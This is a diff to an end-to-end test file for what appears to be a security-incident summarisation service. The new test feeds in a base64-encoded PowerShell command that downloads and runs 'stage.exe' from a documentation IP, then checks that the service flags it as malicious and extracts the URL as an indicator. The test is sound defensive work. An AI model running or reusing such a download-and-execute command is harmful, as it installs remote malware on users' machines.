@@ -1,3 +1,4 @@
+import { createHash } from 'node:crypto';
 import { mkdtemp, readFile, rm } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
@@ -70,6 +71,21 @@ describe('npm start, once built', () => {
     await expect(ask(attest, 'mutation { regenerateSummary(incidentId: "none") { version } }')).rejects.toThrow('There is no incident none');
   });
 
+  it('tells in the summary what a script of the incident does, once it is analysed', async () => {
+    const hidden = Buffer.from("Invoke-WebRequest -Uri 'http://203.0.113.40/stage.exe' -OutFile $env:TEMP\\s.exe; Start-Process $env:TEMP\\s.exe", 'utf16le').toString('base64');
+    const command = `powershell.exe -NoProfile -EncodedCommand ${hidden}`;
+    await importIncident(attest, { id: 'new-2', displayName: 'Encoded', severity: 'high', alerts: [{ id: 'n2', title: 'Suspicious PowerShell', severity: 'high', firstActivityDateTime: '2025-01-01T00:00:00Z', evidence: [{ '@odata.type': '#microsoft.graph.security.processEvidence', processCommandLine: command, imageFile: { fileName: 'powershell.exe' } }] }] });
+    interface Told { incident: { summary: { statements: { text: string; facts: string[] }[]; facts: { id: string; source: { kind: string; sha256: string | null; layer: number | null; alertId: string | null } }[]; indicators: { value: string }[] } | null } }
+    const told = async (): Promise<Told['incident']['summary']> => (await ask<Told>(attest, '{ incident(id: "new-2") { summary { statements { text facts } facts { id source { kind sha256 layer alertId } } indicators { value } } } }')).incident.summary;
+    await eventually('told', async () => (await told())?.statements.some(({ text }) => text.includes('malicious by script analysis')) ?? false, 30_000);
+    const summary = await told();
+    const said = summary?.statements.find(({ text }) => text.includes('malicious by script analysis'));
+    const sources = said?.facts.map((id) => summary?.facts.find((fact) => fact.id === id)?.source);
+    expect(sources?.map((source) => source?.kind)).toEqual(['script', 'evidence']);
+    expect(sources?.[0]?.sha256).toBe(createHash('sha256').update(command).digest('hex'));
+    expect(summary?.indicators.map(({ value }) => value)).toContain('http://203.0.113.40/stage.exe');
+  });
+
   it('stops on Ctrl-C with nothing left behind, and starts again with everything', async () => {
     const pidFile = await postgresPid(dataDir);
     attest.process.kill('SIGINT');
@@ -78,7 +94,7 @@ describe('npm start, once built', () => {
     expect(() => process.kill(pidFile, 0)).toThrow();
     attest = await start(dataDir);
     const { incidents } = await ask<{ incidents: { totalCount: number } }>(attest, '{ incidents { totalCount } }');
-    expect(incidents.totalCount).toBe(5);
+    expect(incidents.totalCount).toBe(6);
   });
 
   it('ends with its launcher, however that went', async () => {
